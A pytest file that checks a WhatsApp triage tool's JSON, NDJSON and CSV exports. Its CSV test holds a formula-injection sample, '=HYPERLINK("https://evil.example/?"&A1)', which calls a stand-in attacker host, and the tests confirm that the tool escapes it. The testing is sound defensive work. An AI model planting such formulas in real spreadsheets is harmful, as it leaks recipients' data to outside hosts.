"""The triage for programs: JSON, a line of JSON a message, a row of CSV a message."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import jsonschema
import pytest

from wa_doctor.render.triage.csv import COLUMNS
from wa_doctor.webhooks.message import Moment, Subject, Subjects, Verdict

if TYPE_CHECKING:
    from wa_doctor.webhooks.document import Triage

Write = Callable[..., str]

SCHEMA = Path(__file__).parents[2] / "docs" / "schemas" / "triage-v1.json"


def _closed(schema: Any) -> Any:
    """Return the schema with every object closed, so that a field it does not describe is an error."""
    if isinstance(schema, list):
        return [_closed(each) for each in schema]
    if not isinstance(schema, dict):
        return schema
    closed = {key: _closed(value) for key, value in schema.items()}
    open_already = "properties" not in schema or "additionalProperties" in schema
    return closed if open_already else {**closed, "additionalProperties": False}


def _validator(part: str = "") -> jsonschema.Draft202012Validator:
    schema = json.loads(SCHEMA.read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator.check_schema(schema)
    closed = _closed(schema)
    if part:
        closed = {"$defs": closed["$defs"], "$ref": f"#/$defs/{part}"}
    return jsonschema.Draft202012Validator(closed, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)


def test_json_is_described_to_the_last_field(any_triage: Triage, write: Write) -> None:
    """Every field that is written stands in the schema, and nothing that the schema demands is left out."""
    errors = _validator().iter_errors(json.loads(write("json", any_triage)))

    assert [each.message for each in errors] == []


def test_a_line_of_ndjson_is_a_subject_of_the_schema(triage: Triage, write: Write) -> None:
    """Both formats tell the same of a message in the same fields."""
    lines = [json.loads(line) for line in write("ndjson", triage).splitlines()]
    subjects = json.loads(write("json", triage))["subjects"]

    assert [each.message for line in lines for each in _validator("subject").iter_errors(line)] == []
    assert sorted(lines, key=lambda each: str(each["id"])) == sorted(subjects, key=lambda each: str(each["id"]))


def test_json_says_the_same_in_any_encoding(any_triage: Triage, write: Write) -> None:
    """A stream that knows only ASCII gets escapes, not question marks."""
    for encoding in ("ascii", "cp1252", "utf-16"):
        assert json.loads(write("json", any_triage, encoding=encoding)) == json.loads(write("json", any_triage))


def test_json_holds_as_many_messages_as_asked_for(triage: Triage, write: Write) -> None:
    """`--limit` counts messages, and none is a number as well."""
    for limit, count in ((0, 0), (2, 2), (None, 6), (100, 6)):
        assert len(json.loads(write("json", replace(triage, limit=limit)))["subjects"]) == count


def test_lines_are_in_the_order_of_time(triage: Triage, write: Write) -> None:
    """What a log engine reads next wants time to go one way; `--limit` does not shorten it."""
    ids = [json.loads(line)["id"] for line in write("ndjson", replace(triage, limit=1)).splitlines()]

    assert len(ids) == 6
    assert ids[0] == "wamid.SAMPLEAAA004"
    assert ids[-1] == "wamid.SAMPLEAAA002"


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_no_cell_of_csv_is_a_formula(triage: Triage, write: Write) -> None:
    """A recipient who calls himself `=HYPERLINK(...)` stays text in a spreadsheet."""
    rows = _rows(write("csv", triage))
    cells = [cell for row in rows for cell in row.values()]

    assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))]
    assert '\'=HYPERLINK("https://evil.example/?"&A1)' in cells
    assert "'+49 151 *****78" in cells


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A", "\t=1", " \u3000=1", "＝1", "＠A"])
def test_every_way_to_begin_a_formula_is_quoted(
    text: str, triage: Triage, write: Write, listed: Callable[..., Subjects]
) -> None:
    """Spaces in front and the wide signs of eastern keyboards are what Excel takes for the same."""
    subject = Subject(text, Verdict.FAILED, "", (Moment(1, "failed"),))
    row = _rows(write("csv", replace(triage, subjects=listed((subject,)))))[0]

    assert row["id"].startswith("'")


def test_figures_of_csv_stay_figures(triage: Triage, write: Write) -> None:
    """Durations can be added up in a spreadsheet, and what is unknown is empty."""
    rows = {row["id"]: row for row in _rows(write("csv", triage))}

    assert rows["wamid.SAMPLEAAA005"]["latency"] == "3"
    assert rows["wamid.SAMPLEAAA005"]["waiting"] == ""
    assert rows["wamid.SAMPLEAAA002"]["codes"] == "131056/2494 131026"
    assert rows["wamid.SAMPLEAAA004"]["first"] == ""


def test_the_header_of_csv_is_stable(triages: dict[str, Triage], write: Write) -> None:
    """Columns keep their places whatever the log holds; a log without messages has the header all the same."""
    assert write("csv", triages["empty"]) == ",".join(COLUMNS) + "\n"
    assert COLUMNS[:8] == ("id", "verdict", "why", "recipient", "region", "number", "template", "category")
    assert all(len(row) == len(COLUMNS) for row in csv.reader(io.StringIO(write("csv", triages["triage"]))))
